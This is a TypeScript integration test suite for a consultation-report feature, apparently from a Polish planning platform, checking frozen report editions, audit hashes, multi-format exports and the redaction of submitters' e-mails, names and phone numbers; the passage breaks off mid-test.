import { createHash } from 'node:crypto';
import { Workbook } from 'exceljs';
import JSZip from 'jszip';
import { canonicalJson } from '@commonplan/domain';
import { documentFromJson } from '@commonplan/editor';
import { REPRESENTATIVE_LOGINS } from '../src/demo/demo-seeder';
import { TestServer } from './support/test-server';

// pdf-parse's own entry reads a sample file when loaded as the main module: take its library file.
// eslint-disable-next-line @typescript-eslint/no-require-imports
const pdfParse = require('pdf-parse/lib/pdf-parse.js') as (data: Buffer) => Promise<{ text: string }>;

/** Any e-mail address. */
const EMAIL = /[\w.+-]+@[\w-]+\.[\w.-]+/;
const SUBMITTER_EMAILS = ['anna.nowak@example.pl', 'biuro@czyste-powietrze.example', 'jan.kowalski@example.com', 'piotr@example.net', 'partner@som.example'];
/** Phone numbers as people write them: in a private person's and an institution's text, and in a meeting's summary. */
const PHONES = ['601 234 567', '604 567 890', '+48604567890', '0048 604 567 890', '(91) 424 12 34', '605-111-222', '+48 91 433 55 66'];
const DAY = 24 * 60 * 60 * 1000;
const ANNOUNCEMENT_URLS = ['https://som.example/konsultacje/strategia-2030', 'https://bip.som.example/ogloszenia/2026/12'];
const REPORT_URL = 'https://bip.som.example/sprawozdania/2026/3';

describe('the consultation report: preview, publication as frozen editions, public page and files without personal data', () => {
  let server: TestServer;
  let ws: string;
  let coordinator: string;
  let expert: string;
  let partner: string;
  let roundId: string;
  const numbers: Record<string, string> = {};
  const ids: Record<string, string> = {};
  let edition1: { edition: number; sha256: string; content: Record<string, any> };

  const file = async (path: string, token?: string) => {
    const response = await fetch(`${server.url}${path}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
    return { status: response.status, headers: response.headers, body: Buffer.from(await response.arrayBuffer()) };
  };
  const decide = async (key: string, disposition: string, justification: string, approve = true) => {
    expect((await server.request(`/api/consultation-comments/${ids[key]}/disposition`, { method: 'PUT', token: coordinator, body: { disposition, justification } })).status).toBe(204);
    if (approve) expect((await server.request(`/api/consultation-comments/${ids[key]}/disposition/approve`, { token: coordinator, body: {} })).status).toBe(204);
  };
  const upload = async (token: string, name: string, text: string) => {
    const form = new FormData();
    form.append('kind', 'other');
    form.append('file', new Blob([text]), name);
    const response = await fetch(`${server.url}/api/workspaces/${ws}/documents/import`, { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: form });
    expect(response.status).toBe(201);
    return (await response.json()) as { id: string };
  };
  const noPersonalData = (text: string, where: string) => {
    expect({ where, email: EMAIL.exec(text)?.[0] ?? null }).toEqual({ where, email: null });
    for (const secret of [...SUBMITTER_EMAILS, 'Anna Nowak', 'Jan Kowalski', 'Piotr Wiśniewski', 'Nowak', 'Wiśniewsk', 'ul. Długa 5', 'Długa 5', 'Pomyłka', ...PHONES]) {
      expect({ where, found: text.includes(secret) ? secret : null }).toEqual({ where, found: null });
    }
    // However it was written, no phone number's digits remain.
    const digits = text.replace(/[\s\-.()+]/g, '');
    for (const phone of PHONES) expect({ where, phone, found: digits.includes(phone.replace(/\D/g, '').replace(/^(00)?48(?=\d{9}$)/, '')) }).toEqual({ where, phone, found: false });
  };
  let oralMeetingId: string;
  let approvingResolution: { id: string; number: string };

  beforeAll(async () => {
    server = await TestServer.start({ env: { TRUST_PROXY: 'true' } });
    ws = await server.demoWorkspaceId();
    coordinator = await server.login('koordynator@som.example');
    expert = await server.login('ekspert@som.example');
    partner = await server.login('partner@som.example');
    const documentId = (await server.request(`/api/workspaces/${ws}/documents`, { token: coordinator })).body.find((d: { kind: string }) => d.kind === 'strategy').id;
    const versionId = (await server.request(`/api/documents/${documentId}/versions`, { token: coordinator, body: { name: 'v1.0 do konsultacji' } })).body.id;
    const version = (await server.request(`/api/documents/${documentId}/versions/${versionId}`, { token: coordinator })).body;
    // Passages: positions of words in the frozen version (chapter 1 is the diagnosis, chapter 2 the goals).
    const at: Record<string, number> = {};
    documentFromJson(version.content).descendants((node, pos) => {
      if (node.isText && node.text?.startsWith('Obszar metropolitalny')) at.diagnosis = pos;
      if (node.isText && node.text?.startsWith('Cel 1.')) at.goals = pos;
    });
    expect(at.diagnosis).toBeGreaterThan(0);
    expect(at.goals).toBeGreaterThan(at.diagnosis);
    const created = await server.request(`/api/workspaces/${ws}/rounds`, {
      token: coordinator,
      body: {
        documentId,
        versionId,
        title: 'Konsultacje Strategii SOM 2030',
        audiences: ['partners', 'public'],
        channels: ['online_form', 'post', 'oral_protocol'],
        opensAt: new Date(Date.now() - DAY).toISOString(),
        announcementUrls: ANNOUNCEMENT_URLS,
      },
    });
    expect(created.status).toBe(201);
    expect(created.body.announcementUrls).toEqual(ANNOUNCEMENT_URLS);
    roundId = created.body.id;
    const withMeeting = await server.request(`/api/rounds/${roundId}/meetings`, {
      token: coordinator,
      body: { startsAt: new Date(Date.now() - DAY / 2).toISOString(), place: 'Szczecin, Urząd Miasta, sala sesyjna', notes: 'Spotkanie otwarte.' },
    });
    oralMeetingId = withMeeting.body.meetings[0].id;
    await server.request(`/api/rounds/${roundId}/announce`, { token: coordinator, body: {} });
    await server.request(`/api/rounds/${roundId}/open`, { token: coordinator, body: {} });
    // After the meeting: how many came, what was said (a phone number and a name in it, as notes go), and no more.
    const recorded = await server.request(`/api/rounds/${roundId}/meetings/${oralMeetingId}`, {
      method: 'PATCH',
      token: coordinator,
      body: { participants: 48, summary: 'Dyskusja o kolei do Goleniowa. Pani Anna Nowak (tel. 605-111-222) pytała o rozkład jazdy.' },
    });
    expect(recorded.status).toBe(200);
    expect(recorded.body.meetings[0]).toMatchObject({ participants: 48, notes: 'Spotkanie otwarte.' });

    let ip = 0;
    const send = async (key: string, body: Record<string, unknown>, path = `/api/public/rounds/${roundId}/comments`, token?: string) => {
      const response = await server.request(path, { token, body, headers: { 'x-forwarded-for': `198.51.100.${++ip}` } });
      expect(response.status).toBe(201);
      numbers[key] = response.body.number;
      ids[key] = response.body.id;
      return response.body;
    };
    await send('anna', {
      part: 'Rozdział 2. Cele strategiczne',
      passage: { from: at.goals, to: at.goals + 6 },
      currentWording: 'Cel 1. Spójny system transportu publicznego.',
      proposedWording: 'Cel 1. Spójny system transportu publicznego z koleją aglomeracyjną do Goleniowa.',
      justification: 'Dojazdy do pracy trwają zbyt długo. Odpowiedź proszę na anna.nowak@example.pl lub tel. 601 234 567.',
      submitter: { kind: 'person', name: 'Anna Nowak', type: 'resident' },
      email: 'anna.nowak@example.pl',
    });
    await send('air', {
      part: 'Rozdział 1. Diagnoza',
      passage: { from: at.diagnosis, to: at.diagnosis + 8 },
      proposedWording: 'Dodać wnioski o smogu zimowym.',
      justification: 'Dane o przekroczeniach norm pyłu PM10 w latach 2021-2027 (12 mln zł na pomiary). Kontakt: tel. 604 567 890, +48604567890, 0048 604 567 890 lub (91) 424 12 34; biuro: ul. Długa 5, 70-123 Szczecin. Popieramy uwagę p. Nowak.',
      submitter: { kind: 'institution', name: 'Stowarzyszenie Czyste Powietrze', type: 'other' },
      email: 'biuro@czyste-powietrze.example',
    });
    await send('partner', { part: 'Rozdział 2', passage: { from: at.goals, to: at.goals + 3 }, proposedWording: 'Cel 4. Gospodarka morska.', justification: 'Porty Szczecin i Świnoujście.' }, `/api/rounds/${roundId}/comments`, partner);
    await send(
      'post',
      { part: 'Załącznik 1', proposedWording: 'Uzupełnić mapę.', justification: 'Brak granic gmin.', submitter: { kind: 'person', name: 'Jan Kowalski', type: 'resident' }, email: 'jan.kowalski@example.com', channel: 'post' },
      `/api/rounds/${roundId}/comments/entered`,
      coordinator,
    );
    await send('anna2', {
      part: 'Rozdział 1',
      passage: { from: at.diagnosis, to: at.diagnosis + 4 },
      proposedWording: 'Dodać dane o dojazdach.',
      justification: 'Jak wyżej.',
      submitter: { kind: 'person', name: 'Anna Nowak', type: 'resident' },
      email: 'anna.nowak@example.pl',
    });
    const withdrawn = await send('withdrawn', { part: 'Rozdział 3', proposedWording: 'Nic.', justification: 'Pomyłka.', submitter: { kind: 'person', name: 'Piotr Wiśniewski', type: 'resident' }, email: 'piotr@example.net' });
    expect((await server.request(`/api/public/consultation-comments/${withdrawn.id}`, { method: 'DELETE', headers: { 'x-comment-secret': withdrawn.editSecret } })).status).toBe(200);
    // Said at the meeting, entered by staff with the meeting it came from.
    await send(
      'oral',
      {
        part: 'Rozdział 2',
        proposedWording: 'Kolej do Goleniowa co godzinę.',
        justification: 'Zgłoszone ustnie na spotkaniu.',
        submitter: { kind: 'institution', name: 'Rada Osiedla Pogodno', type: 'other' },
        channel: 'oral_protocol',
        meetingId: oralMeetingId,
      },
      `/api/rounds/${roundId}/comments/entered`,
      coordinator,
    );

    // The closing time comes (the API never closes early): announced 40 days ago, the statutory period is kept.
    await server.db.query(`UPDATE consultation_rounds SET announced_at = now() - interval '40 days', closes_at = now() - interval '1 second' WHERE id = $1`, [roundId]);
    expect((await server.request(`/api/rounds/${roundId}/close`, { token: coordinator, body: {} })).status).toBe(200);

    // The board adopts a resolution approving the report: a meeting, its members check in and vote.
    const bodies = (await server.request(`/api/workspaces/${ws}/bodies`, { token: coordinator })).body as Array<{ id: string; kind: string; members: Array<{ name: string }> }>;
    const board = bodies.find((b) => b.kind === 'board')!;
    const resolution = (await server.request(`/api/workspaces/${ws}/resolutions`, { token: coordinator, body: { bodyId: board.id, kind: 'ordinary', title: 'w sprawie przyjęcia sprawozdania z konsultacji Strategii SOM 2030' } })).body;
    const meeting = (await server.request(`/api/workspaces/${ws}/meetings`, { token: coordinator, body: { bodyId: board.id, title: 'Posiedzenie Zarządu', startsAt: new Date().toISOString(), place: 'Szczecin', agenda: [resolution.id] } })).body;
    expect((await server.request(`/api/meetings/${meeting.id}/open`, { token: coordinator, body: {} })).status).toBe(200);
    const boardTokens = await Promise.all(board.members.map((m) => server.login(`przedstawiciel.${REPRESENTATIVE_LOGINS[m.name]}@som.example`)));
    for (const token of boardTokens) expect((await server.request(`/api/meetings/${meeting.id}/check-in`, { token, body: {} })).status).toBe(200);
    const vote = (await server.request(`/api/resolutions/${resolution.id}/votes`, { token: coordinator, body: { meetingId: meeting.id } })).body;
    for (const token of boardTokens) expect((await server.request(`/api/votes/${vote.id}/ballots`, { token, body: { choice: 'for' } })).status).toBe(201);
    expect((await server.request(`/api/votes/${vote.id}/close`, { token: coordinator, body: {} })).status).toBe(200);
    const adopted = (await server.request(`/api/resolutions/${resolution.id}`, { token: coordinator })).body;
    expect(adopted.state).toBe('adopted');
    approvingResolution = { id: resolution.id, number: adopted.number };
  });
  afterAll(() => server?.close());

  it('shows staff the preview and refuses to publish while comments are undecided or unapproved, naming them', async () => {
    expect((await server.request(`/api/public/rounds/${roundId}/report`)).status).toBe(404);
    expect((await file(`/api/public/rounds/${roundId}/report.pdf`)).status).toBe(404);
    expect((await server.request(`/api/rounds/${roundId}/report`, { token: partner })).status).toBe(403);
    expect((await file(`/api/rounds/${roundId}/report.pdf`, partner)).status).toBe(403);

    const preview = await server.request(`/api/rounds/${roundId}/report`, { token: expert });
    expect(preview.status).toBe(200);
    const pending = [numbers.anna, numbers.air, numbers.partner, numbers.post, numbers.anna2, numbers.oral];
    expect(preview.body.blockers).toEqual({ undecided: pending, unapproved: [] });
    expect(preview.body.publishable).toEqual({ ok: false, reason: 'undecided_comments' });
    expect(preview.body.content.statistics.byDisposition).toContainEqual({ key: 'undecided', count: 6 });

    const refused = await server.request(`/api/rounds/${roundId}/report/publish`, { token: coordinator, body: {} });
    expect(refused.status).toBe(409);
    expect(refused.body.code).toBe('report_undecided_comments');
    expect(refused.body.undecided).toEqual(pending);
    expect(refused.body.message).toContain('6 comments');
    expect(refused.body.message).toContain(numbers.anna);

    await decide('anna', 'partly_accepted', 'Kolej do Goleniowa jest w celu 1; harmonogram zależy od PKP PLK.');
    await decide('air', 'accepted', 'Wnioski uzupełniono o jakość powietrza.');
    await decide('partner', 'rejected', 'Gospodarka morska jest w celu 2.');
    await decide('post', 'explanation', 'Mapa jest w załączniku 2.');
    await decide('oral', 'rejected', 'Częstotliwość kursów ustala przewoźnik.');
    await decide('anna2', 'accepted', 'Dodano dane GUS o dojazdach.', false);
    const unapproved = await server.request(`/api/rounds/${roundId}/report/publish`, { token: coordinator, body: {} });
    expect(unapproved.status).toBe(409);
    expect(unapproved.body).toMatchObject({ undecided: [], unapproved: [numbers.anna2] });
    expect((await server.request(`/api/consultation-comments/${ids.anna2}/disposition/approve`, { token: coordinator, body: {} })).status).toBe(204);

    expect((await server.request(`/api/rounds/${roundId}/report/publish`, { token: expert, body: {} })).status).toBe(403);
    expect((await server.request(`/api/public/rounds/${roundId}/report`)).status).toBe(404);
    const ready = await server.request(`/api/rounds/${roundId}/report`, { token: coordinator });
    expect(ready.body.publishable).toEqual({ ok: true, reason: null });
    expect(ready.body.editions).toEqual([]);
  });

  it('publishes edition 1: the round is report_published, the audit trail holds the hash of the content served', async () => {
    const published = await server.request(`/api/rounds/${roundId}/report/publish`, { token: coordinator, body: {} });
    expect(published.status).toBe(201);
    expect(published.body).toMatchObject({ edition: 1, sha256: expect.stringMatching(/^[0-9a-f]{64}$/) });
    const round = await server.request(`/api/rounds/${roundId}`, { token: coordinator });
    expect(round.body.state).toBe('report_published');
    expect(round.body.reportPublishedAt).not.toBeNull();

    const report = await server.request(`/api/public/rounds/${roundId}/report`);
    expect(report.status).toBe(200);
    expect(report.body).toMatchObject({ edition: 1, sha256: published.body.sha256, editions: [{ edition: 1, sha256: published.body.sha256 }] });
    const served = createHash('sha256').update(canonicalJson(report.body.content)).digest('hex');
    expect(served).toBe(published.body.sha256);
    const audit = await server.request(`/api/workspaces/${ws}/audit?limit=5`, { token: coordinator });
    const entry = audit.body.entries.find((e: { action: string }) => e.action === 'consultation.report_published');
    expect(entry).toMatchObject({ targetId: roundId, details: { edition: 1, sha256: served, from: 'closed', to: 'report_published' } });
    edition1 = report.body;

    // The statistics match the comments; the withdrawn one is listed, not counted.
    const content = report.body.content;
    const counts = (rows: Array<{ key: string; count: number }>) => Object.fromEntries(rows.map((r) => [r.key, r.count]));
    expect(content.statistics).toMatchObject({ considered: 6, submitters: { persons: 2, institutions: 3 } });
    expect(counts(content.statistics.byDisposition)).toEqual({ accepted: 2, partly_accepted: 1, rejected: 2, explanation: 1 });
    expect(counts(content.statistics.bySubmitterType)).toEqual({ resident: 3, member_jst: 0, partner_organisation: 1, other: 2 });
    expect(counts(content.statistics.byChapter)).toEqual({ '1. Wnioski z diagnozy': 2, '2. Cele strategiczne': 2, 'Załącznik 1': 1, 'Rozdział 2': 1 });
    // The main changes by chapter: counts and the passages with their comments.
    expect(content.mainChanges).toEqual([
      { chapter: '1. Wnioski z diagnozy', accepted: 2, partlyAccepted: 0, passages: [{ comments: [numbers.air], wording: 'Dodać wnioski o smogu zimowym.', applied: false }, { comments: [numbers.anna2], wording: 'Dodać dane o dojazdach.', applied: false }] },
      { chapter: '2. Cele strategiczne', accepted: 0, partlyAccepted: 1, passages: [{ comments: [numbers.anna], wording: 'Cel 1. Spójny system transportu publicznego z koleją aglomeracyjną do Goleniowa.', applied: false }] },
    ]);
    const annex = Object.fromEntries(content.annex.map((e: { number: string }) => [e.number, e]));
    expect(annex[numbers.anna].submitter).toEqual({ kind: 'person', number: 1, type: 'resident' });
    expect(annex[numbers.anna2].submitter).toEqual({ kind: 'person', number: 1, type: 'resident' });
    expect(annex[numbers.post].submitter).toEqual({ kind: 'person', number: 2, type: 'resident' });
    // The withdrawn comment: its number apart, nothing else; no person number spent on it.
    expect(annex[numbers.withdrawn]).toBeUndefined();
    expect(content.withdrawn).toEqual([numbers.withdrawn]);
    expect(annex[numbers.air].submitter).toEqual({ kind: 'institution', name: 'Stowarzyszenie Czyste Powietrze', type: 'other' });
    expect(annex[numbers.partner].submitter).toEqual({ kind: 'institution', name: 'Uniwersytet Szczeciński', type: 'partner_organisation' });
    expect(annex[numbers.anna]).toMatchObject({ disposition: 'partly_accepted', dispositionJustification: 'Kolej do Goleniowa jest w celu 1; harmonogram zależy od PKP PLK.' });
    expect(annex[numbers.anna].justification).toBe('Dojazdy do pracy trwają zbyt długo. Odpowiedź proszę na […] lub tel. […].');
    // An institution's text too: every phone, the address, the private submitter named; the years and amounts stay.
    expect(annex[numbers.air].justification).toBe(
      'Dane o przekroczeniach norm pyłu PM10 w latach 2021-2027 (12 mln zł na pomiary). Kontakt: tel. […], […], […] lub […]; biuro: […], […]. Popieramy uwagę p. […].',
    );
    noPersonalData(JSON.stringify(report.body), 'public JSON');
    noPersonalData(JSON.stringify((await server.request(`/api/rounds/${roundId}/report`, { token: coordinator })).body), 'staff preview JSON');

    // The database refuses to change or delete a published edition.
    await expect(server.db.query(`UPDATE consultation_reports SET sha256 = $2 WHERE round_id = $1`, [roundId, '0'.repeat(64)])).rejects.toThrow(/frozen/);
    await expect(server.db.query(`DELETE FROM consultation_reports WHERE round_id = $1`, [roundId])).rejects.toThrow(/frozen/);
  });

  it('serves the published report as PDF, DOCX, CSV and XLSX with proper headers, anonymised, in Polish or English', async () => {
    const texts: Record<string, string> = {};
    for (const [format, type] of [
      ['pdf', 'application/pdf'],
      ['docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
      ['csv', 'text/csv; charset=utf-8'],
      ['xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
    ] as const) {
      const response = await file(`/api/public/rounds/${roundId}/report.${format}`);
      expect({ format, status: response.status }).toEqual({ format, status: 200 });
      expect(response.headers.get('content-type')).toBe(type);
      expect(response.headers.get('content-disposition')).toContain(`filename="sprawozdanie-konsultacje-strategii-som-2030-wydanie-1.${format}"`);
      if (format === 'pdf') {
        texts.pdf = (await pdfParse(response.body)).text.replace(/\s+/g, ' ');
      } else if (format === 'docx') {
        const xml = await (await JSZip.loadAsync(response.body)).file('word/document.xml')!.async('string');
        texts.docx = xml.replace(/<[^>]+>/g, ' ').replace(/\s+/g, ' ');
      } else if (format === 'csv') {
        expect([...response.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
        texts.csv = response.body.toString('utf8');
        const lines = texts.csv.split('\r\n');
        expect(lines[0]).toBe('\uFEFFNr uwagi,Rozdział,Część dokumentu,Dotychczasowy zapis,Proponowany zapis,Uzasadnienie uwagi,Zgłaszający,Rodzaj zgłaszającego,Forma zgłoszenia,Status,Rozstrzygnięcie,Uzasadnienie rozstrzygnięcia');
        expect(lines.filter((line) => /^U\/\d{4}\/\d{4},/.test(line))).toHaveLength(7);
        // The withdrawn comment: its number and status, nothing else.
        expect(lines).toContain(`${numbers.withdrawn},,,,,,,,,wycofana,,`);
        // Quoted for its semicolon, the list separator of Polish spreadsheets.
        expect(texts.csv).toContain(',"Kolej do Goleniowa jest w celu 1; harmonogram zależy od PKP PLK."');
      } else {
        const workbook = new Workbook();
        await workbook.xlsx.load(response.body as unknown as ArrayBuffer);
        expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Podsumowanie', 'Załącznik']);
        const cells: string[] = [];
        workbook.worksheets.forEach((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(String(cell.value)))));
        texts.xlsx = cells.join(' | ');
        const annex = workbook.getWorksheet('Załącznik')!;
        expect(annex.rowCount).toBe(8);
        expect(annex.getRow(2).getCell(1).value).toBe(numbers.anna);
      }
    }
    for (const [format, text] of Object.entries(texts)) {
      noPersonalData(text, format);
      expect({ format, person: text.includes('osoba fizyczna nr 1') }).toEqual({ format, person: true });
      expect({ format, institution: text.includes('Stowarzyszenie Czyste Powietrze') }).toEqual({ format, institution: true });
    }
    for (const key of Object.keys(numbers)) expect(texts.pdf).toContain(numbers[key]);
    expect(texts.pdf).toContain('Kolej do Goleniowa jest w celu 1; harmonogram zależy od PKP PLK.');
    expect(texts.pdf).toContain('Sprawozdanie z przebiegu i wyników konsultacji');
    expect(texts.pdf).toContain(edition1.sha256);
    expect(texts.pdf).toContain('nie są liczone w statystyce');
    expect(texts.docx).toContain('Gospodarka morska jest w celu 2.');

    const english = await file(`/api/public/rounds/${roundId}/report.pdf?lang=en`);
    expect(english.headers.get('content-disposition')).toContain('report-konsultacje-strategii-som-2030-edition-1.pdf');
    const englishText = (await pdfParse(english.body)).text.replace(/\s+/g, ' ');
    expect(englishText).toContain('private individual no. 1');
    expect(englishText).toContain('Report on the course and results of the consultation');
    expect(englishText).toContain('Dojazdy do pracy trwają zbyt długo.'); // the data stays as entered

    expect((await file(`/api/public/rounds/${roundId}/report.odt`)).status).toBe(404);
    expect((await file(`/api/public/rounds/${roundId}/report.pdf?lang=de`)).status).toBe(400);
    // Staff download the preview too.
    const draft = await file(`/api/rounds/${roundId}/report.xlsx`, expert);
    expect(draft.status).toBe(200);
    expect(draft.headers.get('content-disposition')).toContain('-projekt.xlsx');
  });

  it('makes a later change a new edition, numbered 2, while edition 1 reads the same', async () => {
    const again = await server.request(`/api/rounds/${roundId}/report/publish`, { token: coordinator, body: {} });
    expect(again.status).toBe(409);
    expect(again.body.code).toBe('report_unchanged');
    expect(again.body.message).toContain('nothing changed');

    await decide('partner', 'partly_accepted', 'Po ponownej analizie: gospodarka morska dopisana do celu 2.', false);
    const preview = await server.request(`/api/rounds/${roundId}/report`, { token: coordinator });
    expect(preview.body).toMatchObject({ changedSinceLatest: true, blockers: { undecided: [], unapproved: [numbers.partner] }, publishable: { ok: false } });
    expect((await server.request(`/api/rounds/${roundId}/report/publish`, { token: coordinator, body: {} })).status).toBe(409);
    expect((await server.request(`/api/consultation-comments/${ids.partner}/disposition/approve`, { token: coordinator, body: {} })).status).toBe(204);

    const second = await server.request(`/api/rounds/${roundId}/report/publish`, { token: coordinator, body: {} });
    expect(second.status).toBe(201);
    expect(second.body.edition).toBe(2);
    expect(second.body.sha256).not.toBe(edition1.sha256);

    const latest = await server.request(`/api/public/rounds/${roundId}/report`);
    expect(latest.body.edition).toBe(2);
    expect(latest.body.editions.map((e: { edition: number }) => e.edition)).toEqual([1, 2]);
    expect(latest.body.content.statistics.byDisposition).toContainEqual({ key: 'partly_accepted', count: 2 });
    expect(latest.body.content.mainChanges.map((c: { chapter: string }) => c.chapter)).toEqual(['1. Wnioski z diagnozy', '2. Cele strategiczne']);
    const first = await server.request(`/api/public/rounds/${roundId}/report?edition=1`);
    expect(first.body.content).toEqual(edition1.content);
    expect(first.body.sha256).toBe(edition1.sha256);
    expect((await server.request(`/api/public/rounds/${roundId}/report?edition=3`)).status).toBe(404);
    expect((await server.request(`/api/public/rounds/${roundId}/report?edition=zero`)).status).toBe(400);
    const oldPdf = await file(`/api/public/rounds/${roundId}/report.pdf?edition=1`);
    expect(oldPdf.headers.get('content-disposition')).toContain('wydanie-1.pdf');
    expect((await pdfParse(oldPdf.body)).text.replace(/\s+/g, ' ')).toContain('Gospodarka morska jest w celu 2.');

    const audit = await server.request(`/api/workspaces/${ws}/audit?limit=5`, { token: coordinator });
    const entry = audit.body.entries.find((e: { action: string }) => e.action === 'consultation.report_published');
    expect(entry.details).toEqual({ edition: 2, sha256: second.body.sha256 });
    expect((await server.request(`/api/rounds/${roundId}`, { token: coordinator })).body.state).toBe('report_published');
  });
  it('states the statutory period, where the announcement and the report were published, the approving resolution and the meetings, in every format and both languages', async () => {
    const patched = await server.request(`/api/rounds/${roundId}/publication`, {
      method: 'PATCH',
      token: coordinator,
      body: { reportUrls: [REPORT_URL], approvedByResolutionId: approvingResolution.id },
    });
    expect(patched.status).toBe(200);
    expect(patched.body).toMatchObject({ announcementUrls: ANNOUNCEMENT_URLS, reportUrls: [REPORT_URL], approval: { resolutionId: approvingResolution.id, number: approvingResolution.number } });
    expect(patched.body.approval.title).toBe(`Uchwała nr ${approvingResolution.number} Zarządu w sprawie przyjęcia sprawozdania z konsultacji Strategii SOM 2030`);
    // The public announcement names where it was published.
    const announcement = (await server.request(`/api/public/rounds/${roundId}`)).body;
    expect(announcement).toMatchObject({ announcementUrls: ANNOUNCEMENT_URLS, reportUrls: [REPORT_URL] });
    expect((await server.request(`/api/rounds/${roundId}/report`, { token: coordinator })).body.changedSinceLatest).toBe(true);
    const published = await server.request(`/api/rounds/${roundId}/report/publish`, { token: coordinator, body: {} });
    expect(published.status).toBe(201);
    const edition = published.body.edition;

    const report = (await server.request(`/api/public/rounds/${roundId}/report`)).body;
    expect(report.edition).toBe(edition);
    const content = report.content;
    expect(content.format).toBe(2);
    expect(content.statutoryPeriod).toMatchObject({ minimumDays: 35, kept: true });
    expect(content.statutoryPeriod.days).toBeGreaterThanOrEqual(39);
    expect(content.law).toMatchObject({ journal: { pl: 'Dz. U. z 2025 r. poz. 198' }, period: { pl: 'art. 6 ust. 5' } });
    expect(content.publication).toEqual({ announcement: ANNOUNCEMENT_URLS, report: [REPORT_URL] });
    expect(content.adoption).toMatchObject({ number: approvingResolution.number, body: 'Zarząd', title: patched.body.approval.title });
    expect(content.meetings).toEqual([
      {
        startsAt: expect.any(String),
        place: 'Szczecin, Urząd Miasta, sala sesyjna',
        participants: 48,
        summary: 'Dyskusja o kolei do Goleniowa. Pani […] (tel. […]) pytała o rozkład jazdy.',
        comments: [numbers.oral],
      },
    ]);
    expect(content.withdrawn).toEqual([numbers.withdrawn]);
    noPersonalData(JSON.stringify(report), 'public JSON');
    const adoptedOn = new Intl.DateTimeFormat('pl-PL', { dateStyle: 'long', timeZone: 'Europe/Warsaw' }).format(new Date(content.adoption.adoptedAt));
    const announcedOn = new Intl.DateTimeFormat('pl-PL', { dateStyle: 'long', timeStyle: 'short', timeZone: 'Europe/Warsaw' }).format(new Date(content.round.announcedAt));

    const textOf = async (format: 'pdf' | 'docx' | 'xlsx', lang: 'pl' | 'en') => {
      const response = await file(`/api/public/rounds/${roundId}/report.${format}?lang=${lang}`);
      expect({ format, status: response.status }).toEqual({ format, status: 200 });
      if (format === 'pdf') return (await pdfParse(response.body)).text.replace(/\s+/g, ' ');
      if (format === 'docx') return (await (await JSZip.loadAsync(response.body)).file('word/document.xml')!.async('string')).replace(/<[^>]+>/g, ' ').replace(/\s+/g, ' ');
      const workbook = new Workbook();
      await workbook.xlsx.load(response.body as unknown as ArrayBuffer);
      const cells: string[] = [];
      workbook.getWorksheet(lang === 'pl' ? 'Podsumowanie' : 'Summary')!.eachRow((row) => row.eachCell((cell) => cells.push(String(cell.value))));
      return cells.join(' | ');
    };
    for (const format of ['pdf', 'docx', 'xlsx'] as const) {
      const text = await textOf(format, 'pl');
      noPersonalData(text, format);
      for (const fact of [
        'nie krótszy niż 35 dni od dnia ogłoszenia (art. 6 ust. 5 ustawy z dnia 6 grudnia 2006 r. o zasadach prowadzenia polityki rozwoju, Dz. U. z 2025 r. poz. 198)',
        'termin ustawowy został dochowany',
        announcedOn,
        ...ANNOUNCEMENT_URLS,
        REPORT_URL,
        `${patched.body.approval.title} z dnia ${adoptedOn}`,
        'partnerzy społeczni i gospodarczy',
        'ustnie do protokołu',
        'Szczecin, Urząd Miasta, sala sesyjna',
        'Dyskusja o kolei do Goleniowa.',
        numbers.oral,
        'Uwagi wycofane przez zgłaszających',
        numbers.withdrawn,
        'uwzględnione: 2, częściowo uwzględnione: 0',
      ]) {
        // An address may wrap at a slash in the PDF: compared without spaces.
        const found = fact.startsWith('http') ? text.replace(/\s/g, '').includes(fact) : text.includes(fact);
        expect({ format, fact, found }).toEqual({ format, fact, found: true });
      }
      expect({ format, participants: /Liczba uczestników:? (\| )?48/.test(text) }).toEqual({ format, participants: true });
      expect({ format, withdrawnText: text.includes('Pomyłka') }).toEqual({ format, withdrawnText: false });
      const english = await textOf(format, 'en');
      for (const fact of ['at least 35 days from the day of the announcement (Article 6(5) of the Act of 6 December 2006 on the principles of development policy', 'the statutory period was kept', 'The report was approved by', REPORT_URL, 'Participants', 'Comments withdrawn by their submitters', 'accepted: 2, partly accepted: 0']) {
        const found = fact.startsWith('http') ? english.replace(/\s/g, '').includes(fact) : english.includes(fact);
        expect({ format, fact, found }).toEqual({ format, fact, found: true });
      }
    }
  });

  it('serves an edition published before format 2 as it was sealed, and renders it in every format without a withdrawn comment’s text', async () => {
    const documentId = (await upload(coordinator, 'stary.md', '# Plan\n\nTekst planu.')).id;
    const versionId = (await server.request(`/api/documents/${documentId}/versions`, { token: coordinator, body: { name: 'v1' } })).body.id;
    const old = (
      await server.request(`/api/workspaces/${ws}/rounds`, {
        token: coordinator,
        body: { documentId, versionId, title: 'Konsultacje sprzed zmiany formatu', audiences: ['public'], channels: ['online_form'], opensAt: new Date(Date.now() - DAY).toISOString() },
      })
    ).body.id as string;
    const entry = (number: string, withdrawn: boolean) => ({
      number,
      chapter: 'Plan',
      part: 'Plan',
      currentWording: '',
      proposedWording: withdrawn ? 'Tekst wycofany XQ-1.' : 'Nowy zapis.',
      justification: withdrawn ? 'Uzasadnienie wycofane XQ-2.' : 'Bo tak.',
      submitter: { kind: 'person', number: withdrawn ? 2 : 1, type: 'resident' },
      channel: 'online_form',
      withdrawn,
      disposition: withdrawn ? null : 'accepted',
      dispositionJustification: withdrawn ? null : 'Przyjęto.',
    });
    const count = (key: string, n: number) => ({ key, count: n });
    const v1 = {
      format: 1,
      edition: 1,
      publishedAt: '2026-11-20T10:00:00.000Z',
      organiser: 'Stowarzyszenie',
      round: { id: old, title: 'Konsultacje sprzed zmiany formatu', legalBasis: 'art. 6', audiences: ['public'], channels: ['online_form'], announcedAt: '2026-10-01T08:00:00.000Z', opensAt: '2026-10-01T08:00:00.000Z', closesAt: '2026-11-05T08:00:00.000Z', closedAt: '2026-11-05T09:00:00.000Z', reportDueAt: '2026-12-05T08:00:00.000Z' },
      document: { title: 'Plan', kind: 'other', version: { number: 1, name: 'v1', contentHash: 'ab'.repeat(32) } },
      meetings: [],
      statistics: {
        received: 2,
        withdrawn: 1,
        considered: 1,
        submitters: { persons: 1, institutions: 0 },
        byDisposition: [count('accepted', 1), count('partly_accepted', 0), count('rejected', 0), count('explanation', 0)],
